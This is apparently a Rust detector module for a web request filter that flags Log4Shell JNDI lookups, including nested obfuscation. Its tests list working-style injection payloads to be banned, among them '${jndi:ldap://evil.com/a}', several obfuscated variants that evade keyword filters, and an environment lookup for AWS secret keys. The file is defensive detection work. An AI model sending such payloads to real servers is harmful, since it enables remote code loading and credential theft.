//! Log4Shell-style lookups (`${jndi:ldap://..}`) including nested obfuscation such
//! as `${${lower:j}ndi:`, `${::-j}` and `${env:X:-j}`.

use super::rules;
use super::{Category, Location, STRONG, Sink};

/// Most lookups resolved per input (bounds work on deeply nested payloads).
const MAX_STEPS: usize = 64;

/// Lookup prefixes Log4j 2 understands.
const LOOKUPS: &[&str] = &[
    "jndi",
    "lower",
    "upper",
    "env",
    "sys",
    "java",
    "date",
    "ctx",
    "main",
    "map",
    "marker",
    "sd",
    "spring",
    "k8s",
    "docker",
    "log4j",
    "bundle",
    "base64",
    "jvmrunargs",
    "event",
    "web",
    "hostname",
    "::-",
];

pub(crate) fn check(text: &str, loc: &Location, sink: &mut Sink<'_>) {
    let Some(first) = finder!(b"${").find(text.as_bytes()) else {
        return;
    };
    let lower = text.to_ascii_lowercase();
    let resolved = resolve(&lower);
    let compact: String = resolved.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.contains("jndi:") || compact.contains("${jndi") {
        sink.push(rules::JNDI_LOOKUP, Category::Jndi, STRONG, loc, text, first);
        return;
    }
    // Nested lookups or known lookup prefixes are Log4j syntax, never data.
    let after = &lower[first + 2..];
    let nested = after.contains("${")
        && (lower.contains(":-") || lower.contains("lower:") || lower.contains("upper:"));
    let known = LOOKUPS.iter().any(|l| {
        after.trim_start().starts_with(l)
            && after.trim_start()[l.len()..].starts_with([':', '}', '$'])
            || (*l == "::-" && after.starts_with(l))
    });
    if nested || known {
        sink.push(
            rules::JNDI_OBFUSCATED_LOOKUP,
            Category::Jndi,
            STRONG,
            loc,
            text,
            first,
        );
    }
}

/// Repeatedly replaces innermost `${...}` lookups by what Log4j would substitute
/// for obfuscation purposes: the default after `:-`, the argument of `lower:` and
/// `upper:`; real lookups (`jndi:`) are kept visible with a marker.
fn resolve(s: &str) -> String {
    let mut cur = s.to_owned();
    for _ in 0..MAX_STEPS {
        // Innermost: the last `${` before the first `}` that follows it.
        let Some(open) = cur.rfind("${") else { break };
        let Some(close_rel) = cur[open..].find('}') else {
            break;
        };
        let close = open + close_rel;
        let inner = &cur[open + 2..close];
        let replacement = if let Some(rest) = inner.strip_prefix("jndi:") {
            format!("jndi:{rest}")
        } else if let Some(p) = inner.find(":-") {
            inner[p + 2..].to_owned()
        } else if let Some(rest) = inner
            .strip_prefix("lower:")
            .or_else(|| inner.strip_prefix("upper:"))
        {
            rest.to_owned()
        } else if let Some(p) = inner.rfind(':') {
            // Unknown lookups resolve to empty or to their key; key is a cheap guess.
            inner[p + 1..].to_owned()
        } else {
            inner.to_owned()
        };
        cur.replace_range(open..=close, &replacement);
    }
    cur
}

#[cfg(test)]
mod tests {
    use crate::detect::Action;
    use crate::detect::tests::run;

    fn ua(v: &str) -> Action {
        run(&format!(
            "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: {v}\r\n\r\n"
        ))
        .1
    }

    #[test]
    fn attacks() {
        for p in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://fake.domain:1389/o}",
            "${${::-${::-$${::-j}}}}",
            "${env:AWS_SECRET_ACCESS_KEY}",
        ] {
            assert_eq!(ua(p), Action::Ban, "{p}");
        }
        let raw = "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2Fa%2Fb%7D HTTP/1.1\r\n\r\n";
        assert_eq!(run(raw).1, Action::Ban);
        let raw = "GET / HTTP/1.1\r\nAccept: ${jndi:dns://x}\r\n\r\n";
        assert_eq!(run(raw).1, Action::Ban);
    }

    #[test]
    fn benign_lookalikes() {
        for p in [
            "Mozilla/5.0 (X11; Linux x86_64)",
            "price ${amount}",
            "template ${name} here",
            "$100 {x}",
        ] {
            assert_eq!(ua(p), Action::Allow, "{p}");
        }
    }
}
